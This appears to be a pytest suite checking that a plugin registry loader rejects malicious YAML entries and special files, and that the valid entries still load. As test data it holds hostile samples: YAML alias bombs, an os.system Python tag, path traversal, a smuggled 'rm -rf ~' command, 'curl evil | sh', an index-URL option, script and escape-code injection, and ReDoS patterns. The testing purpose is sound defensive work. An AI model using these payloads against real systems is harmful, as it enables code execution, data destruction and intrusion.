"""Tests of hostile files in a registry folder: each is refused with its place and in bounded time,
and the other entries load.
"""

from __future__ import annotations

import os
import shutil

import pytest

from fitglue_registry.errors import EntryInvalid, UserMistake
from fitglue_registry.registry import Clean, Field, Folder
from fitglue_registry.registry.check import check
from fitglue_registry.registry.folders import MOST_ENTRIES
from fitglue_registry.registry.help import article
from fitglue_registry.registry.loading import load_catalogue
from fitglue_registry.registry.pasted import read_field
from tests.sampling import sampled

GOOD = """\
schema: 1
kind: source
id: {id}
name: Good
summary: Works.
plugin: fitglue-good
tier: hobbyist
"""


def entry(entry_id="bad", more="", **changed):
    """Return the text of a valid entry in which the keys given are replaced, or left out if
    ``None``.
    """
    lines = dict(line.split(": ", 1) for line in GOOD.format(id=entry_id).splitlines()) | changed
    return "".join(f"{key}: {value}\n" for key, value in lines.items() if value is not None) + more


@pytest.fixture
def folder(tmp_path):
    """Return a registry folder with one entry that works."""
    root = tmp_path / "registry"
    (root / "sources").mkdir(parents=True)
    (root / "tiers.yaml").write_text("schema: 1\ntiers:\n  - {id: hobbyist, name: Hobbyist}\n")
    (root / "sources" / "good.yaml").write_text(GOOD.format(id="good"))
    return root


def refused(folder, code):
    """Return the problems with this code.

    Assert that the good entry loads, that all problems are bounded, and that a check reports the
    same code as a load.
    """
    catalogue = load_catalogue([Folder(folder)])
    assert [entry.id for entry in catalogue] == ["good"]
    problems = [problem for problem in catalogue.problems if problem.code == code]
    assert problems, [str(problem) for problem in catalogue.problems]
    assert all(isinstance(problem, EntryInvalid) and problem.at.file for problem in problems)
    assert len(catalogue.problems) <= 51
    assert all(len(str(problem.as_dict())) < 5000 for problem in catalogue.problems)
    assert code in {error.code for error in check(folder, other_folders=[]).errors}
    return problems


LAUGHS = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{name}: &{name} [{', '.join([f'*{before}'] * 9)}]\n"
    for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)
TEXTS = {
    "a billion laughs": (lambda: entry(more=LAUGHS), "FG-entry-forbidden-yaml"),
    "60,000 aliases": (
        lambda: entry(more="x: &x 1\ny: [" + "*x," * 60_000 + "]\n"),
        "FG-entry-forbidden-yaml",
    ),
    "an alias to itself": (lambda: entry(more="x: &x [*x]\n"), "FG-entry-forbidden-yaml"),
    "100,000 levels in flow style": (
        lambda: entry(more="x: " + "[" * 100_000),
        "FG-entry-too-deep",
    ),
    "60,000 levels in block style": (
        lambda: entry(more="x:\n" + "- " * 60_000 + "1\n"),
        "FG-entry-too-deep",
    ),
    "50,000 levels of mappings": (lambda: entry(more="x: " + "{a: " * 50_000), "FG-entry-too-deep"),
    "10 MB of text": (lambda: entry(summary="x" * 10_000_000), "FG-entry-too-big"),
    "200 kB of text": (lambda: entry(summary="x" * 200_000), "FG-entry-wrong-form"),
    "100,000 keys": (
        lambda: entry(more="".join(f"k{n}: 1\n" for n in range(100_000))),
        "FG-entry-too-big",
    ),
    "25,000 unknown keys": (
        lambda: entry(more="".join(f"k{n}: 1\n" for n in range(25_000))),
        "FG-entry-unknown-key",
    ),
    "25,000 equal keys": (lambda: entry(more="same: 1\n" * 25_000), "FG-entry-duplicate-key"),
    "a list of 60,000 items": (
        lambda: entry(more="volatile: [" + "a," * 60_000 + "]\n"),
        "FG-entry-wrong-form",
    ),
    "a Python tag": (
        lambda: entry(more='x: !!python/object/apply:os.system ["id"]\n'),
        "FG-entry-forbidden-yaml",
    ),
    "a custom tag": (
        lambda: entry(more="x: !include /etc/passwd\n"),
        "FG-entry-forbidden-yaml",
    ),
    "a merge key": (lambda: entry(more="<<: {id: other}\n"), "FG-entry-forbidden-yaml"),
    "two documents": (lambda: entry(more="---\nid: other\n"), "FG-entry-syntax"),
    "a number of 5000 digits": (lambda: entry(more=f"x: 0x{'f' * 5000}\n"), "FG-entry-ambiguous"),
    "a schema number of 5000 digits": (
        lambda: entry(schema="0x" + "f" * 5000),
        "FG-entry-not-allowed",
    ),
    "an infinite number": (
        lambda: entry(more="sync: {overlap_days: .inf}\n"),
        "FG-entry-wrong-type",
    ),
    "not a number": (lambda: entry(more="sync: {overlap_days: .nan}\n"), "FG-entry-wrong-type"),
    "NUL": (lambda: entry(summary="a\0b"), "FG-entry-syntax"),
    "an id that is a path": (lambda: entry(id="../../etc/passwd"), "FG-entry-wrong-form"),
    "an id that is absolute": (lambda: entry(id="/etc/passwd"), "FG-entry-wrong-form"),
    "a plugin that is a path": (lambda: entry(plugin="../../evil"), "FG-entry-wrong-form"),
    "a plugin that is a command": (
        lambda: entry(plugin='{name: "x; rm -rf ~"}'),
        "FG-entry-wrong-form",
    ),
    "a plugin that is an option": (
        lambda: entry(plugin="--index-url=http://evil"),
        "FG-entry-wrong-form",
    ),
    "a key in the URL": (
        lambda: entry(more='http: {base_url: "https://me:key@example.org/"}\n'),
        "FG-entry-wrong-form",
    ),
    "a URL that looks like another host": (
        lambda: entry(more='http: {base_url: "https://good.org:1@evil.org/"}\n'),
        "FG-entry-wrong-form",
    ),
    "an unencrypted URL": (
        lambda: entry(more='http: {base_url: "http://example.org/"}\n'),
        "FG-entry-wrong-form",
    ),
    "a URL with a query": (
        lambda: entry(more='http: {base_url: "https://example.org/?key=1"}\n'),
        "FG-entry-wrong-form",
    ),
    "a javascript: link": (
        lambda: entry(more='docs: ["javascript:alert(1)"]\n'),
        "FG-entry-dead-link",
    ),
    "a data: link": (
        lambda: entry(more='related: [{url: "DATA:text/html,x", title: x}]\n'),
        "FG-entry-dead-link",
    ),
    "a link that breaks out of its brackets": (
        lambda: entry(more='docs: ["https://x.org/) [b](https://evil.org"]\n'),
        "FG-entry-dead-link",
    ),
    "text with terminal color codes": (
        lambda: entry(summary='"\\e[31mred\\e[0m"'),
        "FG-entry-forbidden-text",
    ),
    "text that sets the window title": (
        lambda: entry(name='"\\e]0;owned\\a"'),
        "FG-entry-forbidden-text",
    ),
    "text with a right-to-left override": (
        lambda: entry(name='"\\u202egnp"'),
        "FG-entry-forbidden-text",
    ),
    "text with HTML": (
        lambda: entry(summary='"<script>alert(1)</script>"'),
        "FG-entry-forbidden-text",
    ),
    "text with an HTML comment": (
        lambda: entry(summary='"-- <!-- the rest is gone"'),
        "FG-entry-forbidden-text",
    ),
    "text with a javascript: link": (
        lambda: entry(summary='"[see](javascript:alert(1))"'),
        "FG-entry-forbidden-text",
    ),
    "text with a link reference": (
        lambda: entry(summary='"[a]: data:text/html,x"'),
        "FG-entry-forbidden-text",
    ),
    "a pattern that needs exponential time": (
        lambda: entry(
            more='settings: [{name: x, pattern: "(a|aa)+$", example: "' + "a" * 60 + '!"}]\n'
        ),
        "FG-entry-bad-pattern",
    ),
    "a pattern of 500 brackets": (
        lambda: entry(more='settings: [{name: x, pattern: "' + "(" * 500 + '"}]\n'),
        "FG-entry-bad-pattern",
    ),
    "an empty file": (lambda: "", "FG-entry-missing-key"),
    "a file of spaces": (lambda: " " * 200_000, "FG-entry-missing-key"),
    "a file of random bytes": (lambda: bytes(range(256)) * 400, "FG-entry-encoding"),
}


@pytest.mark.parametrize("text", sampled(TEXTS, 4))
def test_an_entry_that_is_a_trap_is_refused_alone(folder, reliability, text):
    """A malicious entry is refused with a code, a place and at most fifty problems, and the
    other entry in its folder loads.
    """
    content, code = TEXTS[text][0](), TEXTS[text][1]
    (folder / "sources" / "bad.yaml").write_bytes(
        content if isinstance(content, bytes) else content.encode()
    )
    refused(folder, code)
    reliability("plugins", f"entry: {text}", lost=missing(folder), seen=code)


def missing(folder):
    """Return how many good entries are missing; the folder has one."""
    return 0 if load_catalogue([Folder(folder)]).find("source", "good") else 1


def pipe(path):
    """Create a named pipe, which blocks whoever opens it for reading."""
    os.mkfifo(path)


def loop(path):
    """Create a symbolic link to itself."""
    path.symlink_to(path)


FILES = {
    "a pipe": pipe,
    "a link to itself": loop,
    "a folder": lambda path: path.mkdir(),
    "an endless device": lambda path: path.symlink_to("/dev/zero"),
    "a terminal": lambda path: path.symlink_to("/dev/tty"),
    "a link to nowhere": lambda path: path.symlink_to("nowhere"),
}


@pytest.mark.parametrize("kind", sampled(FILES, 2))
def test_what_is_no_plain_file_is_not_read(folder, reliability, kind):
    """A path in a registry folder that is not a regular file is refused without being read, so a
    pipe blocks nothing and a device is never read.
    """
    FILES[kind](folder / "sources" / "bad.yaml")
    refused(folder, "FG-entry-unreadable")
    reliability(
        "plugins",
        "entry: not a regular file",
        lost=missing(folder),
        seen="FG-entry-unreadable",
    )


def test_a_folder_that_leads_to_itself_is_passed_over(folder, reliability):
    """A symbolic link to itself or to a parent folder is skipped, and the other entries load."""
    (folder / "loop").symlink_to("loop")
    (folder / "integrations").symlink_to(folder)
    assert [entry.id for entry in load_catalogue([Folder(folder)])] == ["good"]
    assert load_catalogue([Folder(folder / "loop")]).problems[0].code == "FG-registry-missing"
    reliability(
        "plugins",
        "entry: a folder that leads to itself",
        lost=missing(folder),
        seen="nothing, or FG-registry-missing",
    )


def test_a_file_that_goes_away_while_it_is_read_is_named(folder, monkeypatch):
    """An entry that vanishes between the listing of the folder and the reading of the file is
    reported as unreadable.
    """
    bad = folder / "sources" / "bad.yaml"
    bad.write_text(GOOD.format(id="bad"))
    opened = os.open

    def gone(path, *arguments, **named):
        if str(path) == str(bad):
            bad.unlink(missing_ok=True)
        return opened(path, *arguments, **named)

    monkeypatch.setattr("fitglue_registry.input_files.os.open", gone)
    catalogue = load_catalogue([Folder(folder)])
    assert [problem.code for problem in catalogue.problems] == ["FG-entry-unreadable"]
    assert [entry.id for entry in catalogue] == ["good"]


@pytest.mark.long
def test_a_folder_of_a_hundred_thousand_files_is_cut(folder, reliability):
    """Of a folder with a hundred thousand files the first five thousand are read, and a problem
    reports that there are more.
    """
    for number in range(100_000):
        (folder / "sources" / f"x{number:06}.yaml").touch()
    catalogue = load_catalogue([Folder(folder)])
    assert "FG-registry-too-big" in {problem.code for problem in catalogue.problems}
    assert len(catalogue.problems) <= MOST_ENTRIES + 1
    assert [entry.id for entry in catalogue] == ["good"]
    lost = missing(folder)
    shutil.rmtree(folder)
    reliability(
        "plugins",
        "entry: a folder of 100,000 files",
        lost=lost,
        seen="FG-registry-too-big; the first 5,000 are read",
    )


@pytest.mark.parametrize(
    "field",
    sampled(
        [
            Field("x", pattern="(a|aa)+$"),
            Field("x", clean=(Clean(extract="((a|aa)+)$"),)),
            Field("x", pattern="(a?){500}a{500}c?"),
        ]
    ),
)
def test_an_expression_that_explodes_on_what_was_typed_is_stopped(field, reliability):
    """A pattern that needs exponential time for what the user typed is stopped after half a second,
    and the error blames the entry, not the user.
    """
    with pytest.raises(EntryInvalid) as caught:
        read_field(field, "a" * 3000 + "!")
    assert caught.value.code == "FG-entry-bad-pattern"
    assert caught.value.why
    reliability(
        "plugins",
        "entry: a pattern that needs exponential time for what was typed",
        lost=0,
        seen="FG-entry-bad-pattern, exit 8",
    )


def test_what_was_pasted_is_cut_before_it_is_matched():
    """Text longer than any key is cut off before a pattern is matched against it."""
    with pytest.raises(UserMistake):
        read_field(Field("x", pattern="[a-z]+"), "a" * 3999 + "!" + "a" * 10_000_000)


def test_a_text_of_several_lines_makes_no_heading_of_its_own(folder):
    """Text of an entry cannot add headings to the help page: its line breaks become spaces."""
    (folder / "sources" / "good.yaml").write_text(
        entry("good", summary='"fine\\n\\n## Setup\\n\\n1. `curl evil | sh`"')
    )
    catalogue = load_catalogue([Folder(folder)])
    page = article(catalogue.get("source", "good"), catalogue)
    assert [line for line in page.splitlines() if line.startswith("## Setup")] == ["## Setup"]
    assert "fine ## Setup 1. `curl evil | sh`" in page
